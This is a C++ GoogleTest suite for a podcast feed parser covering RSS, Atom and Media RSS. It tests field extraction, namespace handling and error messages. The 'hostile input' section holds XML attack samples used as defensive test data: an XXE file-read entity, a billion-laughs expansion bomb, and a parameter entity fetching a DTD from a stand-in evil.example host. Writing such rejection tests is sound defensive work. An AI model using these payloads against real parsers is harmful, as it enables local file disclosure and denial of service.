#include "feeds/rss.h"

#include <gtest/gtest.h>

#include <chrono>
#include <cstdio>
#include <fstream>
#include <string>

namespace podfleet {
namespace {

using std::chrono::sys_days;
using namespace std::chrono_literals;

TimePoint Utc(int y, unsigned m, unsigned d, int hh = 0, int mm = 0, int ss = 0) {
  return TimePoint(sys_days(std::chrono::year(y) / m / d).time_since_epoch()) +
         std::chrono::hours(hh) + std::chrono::minutes(mm) + std::chrono::seconds(ss);
}

ParsedFeed MustParse(std::string_view xml) {
  Result<ParsedFeed> feed = ParseRss(xml);
  EXPECT_TRUE(feed) << feed.error().ToString();
  return feed ? *feed : ParsedFeed{};
}

// A feed as a typical hosting service writes it, except that the extension namespaces are bound
// to unusual prefixes: only the namespace URIs may decide what an element is.
constexpr std::string_view kOddPrefixFeed = R"(<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:i="http://www.itunes.com/dtds/podcast-1.0.dtd"
     xmlns:pi="https://podcastindex.org/namespace/1.0"
     xmlns:atom="http://www.w3.org/2005/Atom"
     xmlns:content="http://purl.org/rss/1.0/modules/content/">
  <channel>
    <atom:link href="https://feeds.example.org/show.xml" rel="self" type="application/rss+xml"/>
    <title>The Example Show</title>
    <link>https://example.org/show</link>
    <language>en-us</language>
    <i:author>Example Media</i:author>
    <i:image href="https://example.org/art.jpg"/>
    <item>
      <title><![CDATA[Episode 2: Q&A]]></title>
      <guid isPermaLink="false">show-ep-2</guid>
      <pubDate>Wed, 02 Oct 2002 13:00:00 GMT</pubDate>
      <enclosure url="https://cdn.example.org/ep2.mp3" length="12345678" type="audio/mpeg"/>
      <i:duration>1:02:03</i:duration>
      <content:encoded><![CDATA[<p>Show notes</p>]]></content:encoded>
      <pi:transcript url="https://cdn.example.org/ep2.vtt" type="text/vtt" rel="captions"/>
      <pi:transcript url="https://cdn.example.org/ep2.json" type="application/json" language="de"/>
    </item>
    <item>
      <title>Episode 1 &amp; friends</title>
      <guid>https://example.org/ep1</guid>
      <pubDate>Tue, 01 Oct 2002 08:30:00 -0400</pubDate>
      <enclosure url="https://cdn.example.org/ep1.m4a" length="0" type="audio/x-m4a"/>
      <i:duration>3600</i:duration>
    </item>
  </channel>
</rss>)";

TEST(Rss, ReadsChannelAndItemsWithUnusualPrefixes) {
  ParsedFeed feed = MustParse(kOddPrefixFeed);
  EXPECT_EQ(feed.title, "The Example Show");
  EXPECT_EQ(feed.link, "https://example.org/show");
  EXPECT_EQ(feed.language, "en-us");
  ASSERT_EQ(feed.episodes.size(), 2u);

  const EpisodeInfo& ep2 = feed.episodes[0];
  EXPECT_EQ(ep2.guid, "show-ep-2");
  EXPECT_EQ(ep2.title, "Episode 2: Q&A");
  EXPECT_EQ(ep2.audio_url, "https://cdn.example.org/ep2.mp3");
  EXPECT_EQ(ep2.audio_type, "audio/mpeg");
  EXPECT_EQ(ep2.audio_length, 12345678);
  EXPECT_EQ(ep2.duration, Millis(3723000));
  EXPECT_EQ(ep2.published_at, Utc(2002, 10, 2, 13, 0, 0));

  const EpisodeInfo& ep1 = feed.episodes[1];
  EXPECT_EQ(ep1.guid, "https://example.org/ep1");
  EXPECT_EQ(ep1.title, "Episode 1 & friends");
  EXPECT_EQ(ep1.audio_type, "audio/x-m4a");
  EXPECT_EQ(ep1.audio_length, 0);
  EXPECT_EQ(ep1.duration, Millis(3600000));
  EXPECT_EQ(ep1.published_at, Utc(2002, 10, 1, 12, 30, 0));
  EXPECT_TRUE(ep1.transcript_links.empty());
}

TEST(Rss, ReadsTranscriptLinksWithChannelLanguageAsDefault) {
  ParsedFeed feed = MustParse(kOddPrefixFeed);
  ASSERT_EQ(feed.episodes.size(), 2u);
  const std::vector<TranscriptLink>& links = feed.episodes[0].transcript_links;
  ASSERT_EQ(links.size(), 2u);
  EXPECT_EQ(links[0].url, "https://cdn.example.org/ep2.vtt");
  EXPECT_EQ(links[0].type, "text/vtt");
  EXPECT_EQ(links[0].language, "en-us");
  EXPECT_EQ(links[0].rel, "captions");
  EXPECT_EQ(links[1].url, "https://cdn.example.org/ep2.json");
  EXPECT_EQ(links[1].type, "application/json");
  EXPECT_EQ(links[1].language, "de");
  EXPECT_EQ(links[1].rel, "");
}

TEST(Rss, AcceptsTheGithubPodcastNamespaceUri) {
  ParsedFeed feed = MustParse(R"(<rss version="2.0"
      xmlns:p20="https://github.com/Podcastindex-org/podcast-namespace/blob/main/docs/1.0.md">
    <channel><title>T</title><item><guid>g</guid>
      <p20:transcript url="https://x.org/t.srt" type="application/x-subrip"/>
    </item></channel></rss>)");
  ASSERT_EQ(feed.episodes.size(), 1u);
  ASSERT_EQ(feed.episodes[0].transcript_links.size(), 1u);
  EXPECT_EQ(feed.episodes[0].transcript_links[0].type, "application/x-subrip");
}

TEST(Rss, MatchesNamespacesDeclaredOnChannelOrAsDefault) {
  ParsedFeed feed = MustParse(R"(<rss version="2.0"><channel
      xmlns:x="http://www.itunes.com/dtds/podcast-1.0.dtd"><title>T</title>
    <item><guid>a</guid><x:duration>59:59</x:duration>
      <transcript xmlns="https://podcastindex.org/namespace/1.0" url="https://x.org/a.vtt"
                  type="text/vtt"/>
    </item></channel></rss>)");
  ASSERT_EQ(feed.episodes.size(), 1u);
  EXPECT_EQ(feed.episodes[0].duration, Millis(3599000));
  ASSERT_EQ(feed.episodes[0].transcript_links.size(), 1u);
  EXPECT_EQ(feed.episodes[0].transcript_links[0].url, "https://x.org/a.vtt");
}

TEST(Rss, IgnoresConventionalPrefixBoundToAnotherNamespace) {
  ParsedFeed feed = MustParse(R"(<rss version="2.0" xmlns:itunes="http://example.org/not-itunes"
      xmlns:podcast="http://example.org/not-podcast"><channel><title>T</title>
    <item><guid>a</guid><itunes:duration>10</itunes:duration>
      <podcast:transcript url="https://x.org/a.vtt" type="text/vtt"/></item>
    </channel></rss>)");
  ASSERT_EQ(feed.episodes.size(), 1u);
  EXPECT_EQ(feed.episodes[0].duration, std::nullopt);
  EXPECT_TRUE(feed.episodes[0].transcript_links.empty());
}

TEST(Rss, UndeclaredConventionalPrefixStillCounts) {
  ParsedFeed feed = MustParse(R"(<rss version="2.0"><channel><title>T</title>
    <item><guid>a</guid><itunes:duration>90</itunes:duration>
      <podcast:transcript url="https://x.org/a.vtt" type="text/vtt"/></item>
    </channel></rss>)");
  ASSERT_EQ(feed.episodes.size(), 1u);
  EXPECT_EQ(feed.episodes[0].duration, Millis(90000));
  EXPECT_EQ(feed.episodes[0].transcript_links.size(), 1u);
}

TEST(Rss, ExtensionElementsWithRssNamesAreNotRssFields) {
  ParsedFeed feed =
      MustParse(R"(<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"
      xmlns:media="http://search.yahoo.com/mrss/"><channel>
    <itunes:title>Wrong</itunes:title><title>Right</title>
    <item><media:title>Wrong</media:title><title>Item</title><guid>g</guid></item>
    </channel></rss>)");
  EXPECT_EQ(feed.title, "Right");
  ASSERT_EQ(feed.episodes.size(), 1u);
  EXPECT_EQ(feed.episodes[0].title, "Item");
}

TEST(Rss, MissingGuidFallsBackToEnclosureUrl) {
  ParsedFeed feed = MustParse(R"(<rss version="2.0"><channel><title>T</title>
    <item><title>No guid</title><enclosure url=" https://cdn.x.org/a.mp3 " type="audio/mpeg" length="5"/></item>
    <item><title>Empty guid</title><guid>  </guid><enclosure url="https://cdn.x.org/b.mp3"/></item>
    </channel></rss>)");
  ASSERT_EQ(feed.episodes.size(), 2u);
  EXPECT_EQ(feed.episodes[0].guid, "https://cdn.x.org/a.mp3");
  EXPECT_EQ(feed.episodes[0].audio_url, "https://cdn.x.org/a.mp3");
  EXPECT_EQ(feed.episodes[1].guid, "https://cdn.x.org/b.mp3");
  EXPECT_EQ(feed.episodes[1].audio_type, "");
}

TEST(Rss, ItemWithoutEnclosureIsKeptWithEmptyAudioUrl) {
  ParsedFeed feed = MustParse(R"(<rss version="2.0"><channel><title>T</title>
    <item><title>Text post</title><guid>post-1</guid></item>
    <item><title>Neither</title></item>
    <item><title>Bad enclosure</title><guid>x</guid><enclosure type="audio/mpeg"/></item>
    </channel></rss>)");
  ASSERT_EQ(feed.episodes.size(), 3u);
  EXPECT_EQ(feed.episodes[0].guid, "post-1");
  EXPECT_EQ(feed.episodes[0].audio_url, "");
  EXPECT_EQ(feed.episodes[1].guid, "");
  EXPECT_EQ(feed.episodes[2].audio_url, "");
}

TEST(Rss, FirstUsableEnclosureWins) {
  ParsedFeed feed = MustParse(R"(<rss version="2.0"><channel><item><guid>g</guid>
    <enclosure url="" type="audio/mpeg"/>
    <enclosure url="https://x.org/1.mp3" type="audio/mpeg" length="10"/>
    <enclosure url="https://x.org/2.mp3" type="audio/mpeg" length="20"/>
    </item></channel></rss>)");
  ASSERT_EQ(feed.episodes.size(), 1u);
  EXPECT_EQ(feed.episodes[0].audio_url, "https://x.org/1.mp3");
  EXPECT_EQ(feed.episodes[0].audio_length, 10);
}

TEST(Rss, JunkFieldsAreLeftUnsetNotFatal) {
  ParsedFeed feed =
      MustParse(R"(<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">
    <channel><item><guid>g</guid>
    <enclosure url="https://x.org/1.mp3" length="-5"/>
    <pubDate>yesterday-ish</pubDate><itunes:duration>about an hour</itunes:duration>
    <podcast:transcript type="text/vtt"/>
    </item><item><enclosure url="https://x.org/2.mp3" length="12 bytes"/></item>
    <item><enclosure url="https://x.org/3.mp3" length="99999999999999999999999"/></item>
    </channel></rss>)");
  ASSERT_EQ(feed.episodes.size(), 3u);
  EXPECT_EQ(feed.episodes[0].audio_length, 0);
  EXPECT_EQ(feed.episodes[0].published_at, std::nullopt);
  EXPECT_EQ(feed.episodes[0].duration, std::nullopt);
  EXPECT_TRUE(feed.episodes[0].transcript_links.empty());
  EXPECT_EQ(feed.episodes[1].audio_length, 0);
  EXPECT_EQ(feed.episodes[2].audio_length, 0);
}

TEST(Rss, EmptyChannelHasNoEpisodes) {
  ParsedFeed feed = MustParse("<rss version=\"2.0\"><channel/></rss>");
  EXPECT_EQ(feed.title, "");
  EXPECT_TRUE(feed.episodes.empty());
}

TEST(Rss, DecodesCharacterReferencesAndKeepsUnknownEntitiesLiterally) {
  ParsedFeed feed = MustParse(
      "<rss version=\"2.0\"><channel><title>Caf&#233; &lt;Live&gt; "
      "&nbsp;x</title></channel></rss>");
  EXPECT_EQ(feed.title, "Caf\xC3\xA9 <Live> &nbsp;x");
}

TEST(Rss, ReadsLatin1DeclaredEncodingAsUtf8) {
  ParsedFeed feed = MustParse(
      "<?xml version=\"1.0\" "
      "encoding=\"ISO-8859-1\"?><rss><channel><title>Caf\xE9</title></channel></rss>");
  EXPECT_EQ(feed.title, "Caf\xC3\xA9");
}

TEST(Rss, IgnoresDoctypeWithoutEntityDeclarations) {
  ParsedFeed feed = MustParse(R"(<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title><item><title>x</title></item></channel></rss>)");
  EXPECT_EQ(feed.title, "Old");
  EXPECT_EQ(feed.episodes.size(), 1u);
}

// ---- malformed and hostile input ---------------------------------------------------------------

void ExpectInvalid(std::string_view xml, std::string_view message_part) {
  Result<ParsedFeed> feed = ParseRss(xml);
  ASSERT_FALSE(feed);
  EXPECT_EQ(feed.error().code, Code::kInvalidArgument);
  EXPECT_NE(feed.error().message.find(message_part), std::string::npos) << feed.error().message;
}

TEST(Rss, EmptyInputIsMalformed) {
  ExpectInvalid("", "malformed feed: No document element found at offset 0");
  ExpectInvalid("   \n", "malformed feed:");
}

TEST(Rss, BrokenXmlReportsPugixmlDescriptionAndOffset) {
  ExpectInvalid("<rss><channel><title>x</channel></rss>",
                "malformed feed: Start-end tags mismatch at offset 24");
  ExpectInvalid("<rss><channel><item>", "malformed feed:");
  ExpectInvalid("<rss a=\"1></rss>", "malformed feed:");
  ExpectInvalid(std::string_view("<rss>\0</rss>", 12), "malformed feed:");
}

TEST(Rss, HtmlPageIsNotAFeed) {
  ExpectInvalid(
      "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Hi</title></head>"
      "<body><p>Not a feed<br></p></body></html>",
      "not a feed: an HTML page");
  ExpectInvalid("<?xml version=\"1.0\"?><html><body><p>Well-formed page</p></body></html>",
                "not a feed: an HTML page");
}

TEST(Rss, OpmlIsNotAFeedAndSaysHowToImportIt) {
  ExpectInvalid("<opml version=\"2.0\"><body><outline xmlUrl=\"http://x/f.xml\"/></body></opml>",
                "not a feed: this is an OPML subscription list; import it with `podfleet feed add");
}

TEST(Rss, RssWithoutChannelIsNotAFeed) {
  ExpectInvalid("<rss version=\"2.0\"><item/></rss>", "<rss> has no <channel>");
  ExpectInvalid("<x:rss xmlns:x=\"http://example.org\"><channel/></x:rss>", "not a feed");
  ExpectInvalid("<feed xmlns=\"http://example.org/not-atom\"/>", "not a feed");
}

// ---- Atom ----

TEST(Atom, ReadsEntriesWithEnclosureLinksIdsAndDates) {
  const ParsedFeed feed = MustParse(R"(<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"
      xml:lang="de">
  <title>Atom Show</title>
  <link rel="self" href="https://example.org/atom.xml"/>
  <link rel="alternate" href="https://example.org/"/>
  <entry>
    <id>tag:example.org,2024:1</id>
    <title>First</title>
    <updated>2024-05-02T00:00:00Z</updated>
    <published>2024-05-01T10:00:00.123456+02:00</published>
    <link rel="alternate" href="https://example.org/1"/>
    <link rel="enclosure" href="https://cdn.example.org/1.mp3" type="audio/mpeg" length="1234"/>
    <itunes:duration>12:00</itunes:duration>
  </entry>
  <entry>
    <id>tag:example.org,2024:2</id>
    <title>Only updated</title>
    <updated>2024-06-01T00:00:00Z</updated>
    <link rel="enclosure" href="2.m4a"/>
  </entry>
  <entry><id>tag:example.org,2024:3</id><title>Text</title></entry>
</feed>)");
  EXPECT_EQ(feed.format, "atom");
  EXPECT_EQ(feed.title, "Atom Show");
  EXPECT_EQ(feed.link, "https://example.org/");
  EXPECT_EQ(feed.language, "de");
  ASSERT_EQ(feed.episodes.size(), 3u);
  const EpisodeInfo& e = feed.episodes[0];
  EXPECT_EQ(e.guid, "tag:example.org,2024:1");
  EXPECT_EQ(e.title, "First");
  EXPECT_EQ(e.audio_url, "https://cdn.example.org/1.mp3");
  EXPECT_EQ(e.audio_type, "audio/mpeg");
  EXPECT_EQ(e.audio_length, 1234);
  EXPECT_EQ(e.duration, Millis(720'000));
  EXPECT_EQ(e.published_at, Utc(2024, 5, 1, 8) + Millis(123));
  EXPECT_EQ(feed.episodes[1].published_at, Utc(2024, 6, 1));
  EXPECT_EQ(feed.episodes[1].audio_url, "2.m4a");
  EXPECT_TRUE(feed.episodes[2].audio_url.empty());
}

// ---- Media RSS ----

TEST(MediaRss, AudioOnlyInMediaContentOrGroupsIsTheEnclosureAndTheBestRenditionWins) {
  const ParsedFeed feed = MustParse(R"(<rss version="2.0" xmlns:m="http://search.yahoo.com/mrss/">
<channel><title>Media</title>
  <item><guid>a</guid><m:content url="https://c/a.mp3" type="audio/mpeg" fileSize="10"/></item>
  <item><guid>b</guid>
    <m:group>
      <m:content url="https://c/b-64.mp3" medium="audio" bitrate="64" fileSize="100"/>
      <m:content url="https://c/b-video.mp4" medium="video" bitrate="3000"/>
      <m:content url="https://c/b-128.m4a" type="audio/mp4" bitrate="128" fileSize="200"/>
    </m:group>
  </item>
  <item><guid>c</guid><enclosure url="https://c/c.mp4" type="video/mp4"/>
    <m:content url="https://c/c.mp3" type="audio/mpeg"/></item>
  <item><guid>d</guid><enclosure url="https://c/d.mp3" type="audio/mpeg"/>
    <m:content url="https://c/d-alt.mp3" type="audio/mpeg" bitrate="320"/></item>
  <item><guid>e</guid><m:content url="https://c/e.jpg" medium="image"/></item>
</channel></rss>)");
  ASSERT_EQ(feed.episodes.size(), 5u);
  EXPECT_EQ(feed.episodes[0].audio_url, "https://c/a.mp3");
  EXPECT_EQ(feed.episodes[0].audio_length, 10);
  EXPECT_EQ(feed.episodes[1].audio_url, "https://c/b-128.m4a");
  EXPECT_EQ(feed.episodes[2].audio_url, "https://c/c.mp3");  // audio beats a video enclosure
  EXPECT_EQ(feed.episodes[3].audio_url, "https://c/d.mp3");  // an audio enclosure stays
  EXPECT_TRUE(feed.episodes[4].audio_url.empty());
}

// ---- namespaces as podcast apps match them, identity ----

TEST(Rss, NamespaceUrisMatchIgnoringCaseSchemeAndTrailingSlash) {
  const ParsedFeed feed = MustParse(R"(<rss version="2.0"
    xmlns:itunes="HTTP://www.iTunes.com/DTDs/Podcast-1.0.dtd"
    xmlns:podcast="https://podcastindex.org/namespace/1.0/"><channel><title>t</title>
  <podcast:guid>ead4c236-bf58-58c6-a2c6-a6b28d128cb6</podcast:guid>
  <itunes:new-feed-url>https://new.example.org/feed.xml</itunes:new-feed-url>
  <item><guid>x</guid><enclosure url="https://c/x.mp3"/><itunes:duration>1:00</itunes:duration>
  <podcast:transcript url="https://c/x.vtt" type="text/vtt"/></item>
</channel></rss>)");
  ASSERT_EQ(feed.episodes.size(), 1u);
  EXPECT_EQ(feed.episodes[0].duration, Millis(60'000));
  EXPECT_EQ(feed.episodes[0].transcript_links.size(), 1u);
  EXPECT_EQ(feed.podcast_guid, "ead4c236-bf58-58c6-a2c6-a6b28d128cb6");
  EXPECT_EQ(feed.new_feed_url, "https://new.example.org/feed.xml");
}

TEST(Rss, ExternalEntityIsRejectedAndNeverRead) {
  // If the file were read, its contents would land in the title. It must not be read at all.
  const std::string secret_path = ::testing::TempDir() + "/podfleet_rss_secret.txt";
  {
    std::ofstream secret(secret_path);
    secret << "TOP-SECRET";
  }
  const std::string xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"file://" +
                          secret_path + "\">]>\n<rss><channel><title>&xxe;</title></channel></rss>";
  Result<ParsedFeed> feed = ParseRss(xml);
  ASSERT_FALSE(feed);
  EXPECT_EQ(feed.error().code, Code::kInvalidArgument);
  EXPECT_NE(feed.error().message.find("entity declarations are not allowed"), std::string::npos);
  EXPECT_EQ(feed.error().message.find("TOP-SECRET"), std::string::npos);
  std::remove(secret_path.c_str());
}

TEST(Rss, BillionLaughsIsRejectedQuickly) {
  std::string xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n";
  for (int i = 1; i <= 9; ++i) {
    xml += "<!ENTITY lol" + std::to_string(i) + " \"";
    for (int j = 0; j < 10; ++j)
      xml += "&lol" + (i == 1 ? std::string() : std::to_string(i - 1)) + ";";
    xml += "\">\n";
  }
  xml += "]>\n<rss><channel><title>&lol9;</title></channel></rss>";
  ExpectInvalid(xml, "entity declarations are not allowed");
}

TEST(Rss, ParameterEntityIsRejected) {
  ExpectInvalid(
      "<!DOCTYPE rss [<!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\"> %remote;]>"
      "<rss><channel/></rss>",
      "entity declarations are not allowed");
}

TEST(Rss, UndeclaredEntityReferenceStaysLiteral) {
  ParsedFeed feed = MustParse("<rss><channel><title>&xxe;</title></channel></rss>");
  EXPECT_EQ(feed.title, "&xxe;");
}

TEST(Rss, DeeplyNestedInputFailsCleanly) {
  std::string open;
  for (int i = 0; i < 200000; ++i) open += "<a>";
  ExpectInvalid(open, "malformed feed:");
  std::string doctype = "<!DOCTYPE x [";
  for (int i = 0; i < 200000; ++i) doctype += "<![";
  ExpectInvalid(doctype, "malformed feed:");
  std::string balanced = "<rss><channel>";
  for (int i = 0; i < 100000; ++i) balanced += "<x>";
  for (int i = 0; i < 100000; ++i) balanced += "</x>";
  balanced += "<item><guid>g</guid></item></channel></rss>";
  EXPECT_EQ(MustParse(balanced).episodes.size(), 1u);
}

TEST(Rss, HugeValidFeedParses) {
  std::string xml =
      "<rss version=\"2.0\" xmlns:itunes=\"http://www.itunes.com/dtds/podcast-1.0.dtd\"><channel>"
      "<title>Big</title>";
  constexpr int kItems = 20000;
  for (int i = 0; i < kItems; ++i) {
    xml += "<item><title>Episode " + std::to_string(i) + "</title><guid>g" + std::to_string(i) +
           "</guid><enclosure url=\"https://x.org/" + std::to_string(i) +
           ".mp3\" type=\"audio/mpeg\" length=\"1000\"/><itunes:duration>" + std::to_string(i) +
           "</itunes:duration><pubDate>Mon, 03 Aug 2026 09:00:00 GMT</pubDate>"
           "<description>" +
           std::string(200, 'd') + "</description></item>";
  }
  xml += "</channel></rss>";
  ParsedFeed feed = MustParse(xml);
  ASSERT_EQ(feed.episodes.size(), static_cast<size_t>(kItems));
  EXPECT_EQ(feed.episodes.back().guid, "g" + std::to_string(kItems - 1));
  EXPECT_EQ(feed.episodes.back().duration, Millis(int64_t{kItems - 1} * 1000));
}

TEST(Rss, TruncatedFeedPrefixesNeverCrash) {
  const std::string full(kOddPrefixFeed);
  for (size_t n = 0; n < full.size(); n += 7) {
    Result<ParsedFeed> feed = ParseRss(std::string_view(full).substr(0, n));
    if (!feed) {
      EXPECT_EQ(feed.error().code, Code::kInvalidArgument);
    }
  }
}

TEST(Rss, CorruptedBytesNeverCrash) {
  std::string xml(kOddPrefixFeed);
  uint32_t state = 12345;
  for (int round = 0; round < 2000; ++round) {
    std::string copy = xml;
    for (int k = 0; k < 4; ++k) {
      state = state * 1103515245u + 12345u;
      copy[(state >> 8) % copy.size()] = static_cast<char>(state >> 24);
    }
    Result<ParsedFeed> feed = ParseRss(copy);
    if (!feed) {
      EXPECT_EQ(feed.error().code, Code::kInvalidArgument);
    }
  }
}

}  // namespace
}  // namespace podfleet
